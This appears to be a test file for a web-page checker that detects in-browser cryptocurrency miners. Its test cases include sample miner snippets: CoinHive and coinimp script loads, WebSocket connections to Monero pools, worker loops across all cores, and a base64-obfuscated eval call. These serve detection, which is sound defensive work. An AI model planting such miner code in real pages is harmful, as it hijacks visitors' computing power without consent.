import { expect, test } from 'bun:test'
import { MINER_TABLE } from '../../../../src/trust/judge/money/miner.ts'
import { findings, rules, rulesInViews } from '../page-subject.ts'

test.each([
  ['a script of a known miner', '<script src="https://www.coinimp.com/scripts/min.js"></script>'],
  ['a miner under another name', '<script src="/js/cryptonight.wasm.js"></script>'],
  ['a call of a known miner', "<script>new CoinHive.Anonymous('key').start()</script>"],
  ['two calls that miners have', '<script>m.startMining("pool");show(m.getHashesPerSecond())</script>'],
  ['a pool as the end of a socket', '<script>s=new WebSocket("wss://xmr.nanopool.org:443/proxy")</script>'],
  ['a miner by its shape', `<script>var m=new XYZ.Anonymous('${'ab12'.repeat(8)}',{t:1});m.start()</script>`],
  [
    'a miner with a user',
    `<script>var m=XYZ.User("${'ab12'.repeat(8)}","me",{throttle:0.5});m.start()</script>`,
  ],
  ['a pool that is mined at', '<script>startMining("moneroocean.stream","4x")</script>'],
  ['a wallet that is mined for', `<script>startMining("p.example","4${'a'.repeat(94)}")</script>`],
  [
    "the pools' protocol in a socket's code",
    '<script>s=new WebSocket(u);s.send(JSON.stringify({to:"stratum+tcp://p.example:3333"}))</script>',
  ],
  ['a host of one miner', '<script src="https://www.hostingcloud.racing/x.js"></script>'],
  ['a frame of a miner', '<iframe src="https://authedmine.com/media/miner.html"></iframe>'],
  [
    'workers of compiled code on all cores that take jobs',
    '<script>for(i=0;i<navigator.hardwareConcurrency;i++){w=new Worker("w.js");WebAssembly.instantiate(b)}s=new WebSocket(u);s.onmessage=j=>w.postMessage({job_id:j.job_id,nonce:0})</script>',
  ],
])('%s is found', (_, body) => {
  expect(rules(MINER_TABLE, body)).toEqual(['content.miner'])
})

test('a call in disguise is found, since it runs', () => {
  const body = `<script>eval(atob("${btoa("new CoinHive.Anonymous('key').start()")}"))</script>`
  expect(rulesInViews(MINER_TABLE, body)).toEqual(['content.miner'])
})

test.each([
  [
    'an article that names them',
    '<p>CoinHive.Anonymous, coinimp.com, stratum+tcp://</p><pre>new CoinHive.Anonymous()</pre>',
  ],
  [
    'a shop that says where to point what it sells',
    '<script>document.write("<p>Point your monero-miner at stratum+tcp://pool.example.org:3333<\\/p>")</script>',
  ],
  [
    'a user of something else',
    `<script>var u=new Parse.User("${'ab12'.repeat(8)}");app.start();threads=1</script>`,
  ],
  ['a sign-in without a name', '<script>auth.Anonymous("k");app.start()</script>'],
  ['a game with a mine', '<script>player.startMining(rock)</script>'],
  ['a link to a pool', '<a href="https://nanopool.org/">pool</a>'],
  [
    'a video player of compiled code',
    '<script>w=new Worker("d.js");WebAssembly.instantiate(b);s=new WebSocket(u);n=navigator.hardwareConcurrency</script>',
  ],
  ['data', '<script type="application/json">{"a":"CoinHive.Anonymous"}</script>'],
])('%s is none', (_, body) => {
  expect(rules(MINER_TABLE, body)).toEqual([])
})

test('the evidence is the call', () => {
  expect(findings(MINER_TABLE, "<p><script>new CoinHive.Anonymous('key')</script>")[0]?.evidence).toEqual({
    at: 'script[0]',
    offset: 3,
    seen: "new CoinHive.Anonymous('key')",
    expected: null,
  })
})

test('a pool may load its own scripts', () => {
  const body =
    '<script src="https://nanopool.org/a.js"></script><script>s=new WebSocket("wss://api.nanopool.org")</script>'
  expect(rules(MINER_TABLE, body, { url: 'https://xmr.nanopool.org/' })).toEqual([])
  expect(rules(MINER_TABLE, body)).toEqual(['content.miner'])
})
